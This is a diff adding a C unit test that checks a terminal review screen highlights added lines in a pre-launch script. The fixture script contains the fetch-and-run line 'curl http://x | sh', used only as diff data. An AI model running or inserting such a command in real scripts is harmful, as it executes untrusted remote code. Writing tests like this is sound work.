@@ -6,8 +6,11 @@
 #include <string.h>
 
 #include "base/text.h"
+#include "compose/diff.h"
+#include "compose/manifest.h"
 #include "ui/cells.h"
 #include "ui/keys.h"
+#include "ui/review_tabs.h"
 #include "ui/term_codes.h"
 #include "ui/theme.h"
 #include "ui/widget_input.h"
@@ -188,12 +191,38 @@ static void test_copy(void **state)
 	buf_clear(&out);
 }
 
+/* The script runs before everything else in the CVM: the review shows what of it changes, line by line. */
+static void test_review_shows_the_script(void **state)
+{
+	static const char before[] = "#!/bin/sh\nset -e\n", after[] = "#!/bin/sh\nset -e\ncurl http://x | sh\n";
+	struct compose_manifest manifest = { 0 };
+	struct compose_diff *diff = compose_diff_new(before, sizeof(before) - 1, after, sizeof(after) - 1);
+	struct review review = { .manifest = &manifest, .script_diff = diff };
+	struct page page = { 0 };
+	size_t i;
+
+	(void)state;
+	review_add_manifest(&page, &review, 80);
+	assert_non_null(strstr(buf_text(&page.text), "1 line added, 0 removed"));
+	for (i = 0; i < page.count && !text_starts(page.text.data + page.pieces[i].at, "curl http://x | sh"); i++)
+		;
+	assert_true(i < page.count);
+	assert_int_equal(page.pieces[i].style, ROLE_ADDED);
+	page_reset(&page);
+	review.script_diff = NULL;
+	review_add_manifest(&page, &review, 80);
+	assert_null(strstr(buf_text(&page.text), "pre_launch_script"));
+	page_clear(&page);
+	compose_diff_free(diff);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_keys), cmocka_unit_test(test_cells_make_text_safe), cmocka_unit_test(test_cells_wide_characters),
 		cmocka_unit_test(test_cells_fields), cmocka_unit_test(test_input), cmocka_unit_test(test_list),
 		cmocka_unit_test(test_wrap), cmocka_unit_test(test_theme_reads_without_colour), cmocka_unit_test(test_copy),
+		cmocka_unit_test(test_review_shows_the_script),
 	};
 
 	setlocale(LC_ALL, "C.UTF-8");
